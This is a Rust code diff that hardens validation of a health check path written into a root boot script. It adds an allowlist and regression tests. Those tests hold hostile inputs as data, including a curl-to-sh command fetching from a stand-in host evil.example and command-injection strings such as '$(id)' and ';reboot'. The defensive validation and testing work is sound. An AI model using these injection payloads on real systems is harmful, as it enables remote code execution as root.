@@ -230,12 +230,11 @@ impl BlueprintConfig for SwiftCodeConfig {
                 None,
             );
         }
-        let path = &self.health_check_path;
-        if !path.starts_with('/') || path.len() > 1024 {
+        if let Err(why) = check_health_check_path(&self.health_check_path) {
             issue(
                 "health_check_path",
-                format!("\"{path}\" is not a path the load balancer can request"),
-                Some("start it with / and keep it to 1024 characters, such as \"/health\"".into()),
+                why,
+                Some("write a plain path of letters, digits and / - . _ ~ starting with /, such as \"/health\"".into()),
             );
         }
         let asg = self.asg;
@@ -339,6 +338,46 @@ fn cidr_block<'de, D: serde::Deserializer<'de>>(deserializer: D) -> Result<Ipv4N
             &"an IPv4 CIDR block such as \"10.0.0.0/16\"",
         )
     })
+}
+
+/// Longest health check path the load balancer accepts.
+const MAX_HEALTH_CHECK_PATH: usize = 1024;
+
+/// Whether `c` may appear in `health_check_path`: ASCII letters, digits and
+/// `/ - . _ ~` (RFC 3986's unreserved characters and the path separator).
+/// The path is written into the root boot script (the `cfn_signal` health
+/// probe), so nothing the shell, systemd or `Fn::Sub` reads as syntax is
+/// allowed in it: no quotes, `$`, `;`, `|`, `&`, spaces, line breaks, `%`.
+fn is_health_check_path_char(c: char) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, '/' | '-' | '.' | '_' | '~')
+}
+
+/// Checks `health_check_path`: starts with `/`, at most 1024 characters,
+/// and only [`is_health_check_path_char`] characters; or says what is wrong.
+fn check_health_check_path(path: &str) -> Result<(), String> {
+    if !path.starts_with('/') {
+        return Err(format!(
+            "{path:?} is not a path the load balancer can request: it must start with /"
+        ));
+    }
+    if path.len() > MAX_HEALTH_CHECK_PATH {
+        return Err(format!(
+            "the path is {} characters long; the load balancer takes at most {MAX_HEALTH_CHECK_PATH}",
+            path.len()
+        ));
+    }
+    if let Some((at, c)) = path
+        .chars()
+        .enumerate()
+        .find(|(_, c)| !is_health_check_path_char(*c))
+    {
+        return Err(format!(
+            "{path:?} is not allowed: {c:?} (character {}) is not a letter, digit or one of / - . _ ~, \
+             and the path is written into the instances' boot script, which runs as root",
+            at + 1
+        ));
+    }
+    Ok(())
 }
 
 /// `family.size` (`t3.medium`, `m7gd.2xlarge`), after `prefix` (`db.`).
@@ -528,6 +567,66 @@ mod tests {
             err.problems()[0].message,
             "must be an IPv4 CIDR block such as \"10.0.0.0/16\", found the string \"10.0.0.0/33\""
         );
+    }
+
+    /// Regression: `health_check_path = '/"; curl ... | sh; "'` went into
+    /// the root boot script unescaped and synthesized with exit 0. Such a
+    /// value is now a configuration error at its key and line, naming the
+    /// character at fault; so is a domain (the `DomainName` default, which
+    /// the script reads) with shell syntax in it.
+    #[test]
+    fn a_health_check_path_with_shell_syntax_is_refused_at_its_key_and_line() {
+        let err = resolve(
+            "[environments.stage.blueprint]\ncfn_signal = true\n\
+             health_check_path = '/\"; curl -fsS https://evil.example/x | sh; \"'\n\
+             domain = \"app.example.com;reboot\"\n",
+            "stage",
+        )
+        .expect_err("hostile values");
+        let p = err.problems();
+        assert_eq!(p.len(), 2, "{p:#?}");
+        let at_key = |key: &str| {
+            p.iter()
+                .find(|p| p.key.as_deref() == Some(key))
+                .unwrap_or_else(|| panic!("no problem at {key}: {p:#?}"))
+        };
+        let path = at_key("environments.stage.blueprint.health_check_path");
+        let at = path
+            .location
+            .as_ref()
+            .expect("reported where it is written");
+        assert_eq!((at.line, at.column), (3, 21));
+        assert!(
+            path.message.contains("'\"' (character 2)"),
+            "{}",
+            path.message
+        );
+        assert!(path.message.contains("boot script"), "{}", path.message);
+        let domain = at_key("environments.stage.blueprint.domain");
+        assert_eq!(domain.location.as_ref().map(|l| l.line), Some(4));
+    }
+
+    #[test]
+    fn health_check_paths_are_plain_paths() {
+        for good in ["/", "/health", "/leto/status-2.json", "/~user/_ok"] {
+            assert_eq!(check_health_check_path(good), Ok(()), "{good}");
+        }
+        for bad in [
+            "health",
+            "/a b",
+            "/$(id)",
+            "/`id`",
+            "/x;reboot",
+            "/x|sh",
+            "/a&b",
+            "/50%",
+            "/${AWS::Region}",
+            "/x\nid",
+            "/é",
+        ] {
+            assert!(check_health_check_path(bad).is_err(), "{bad:?}");
+        }
+        assert!(check_health_check_path(&format!("/{}", "a".repeat(1024))).is_err());
     }
 
     #[test]
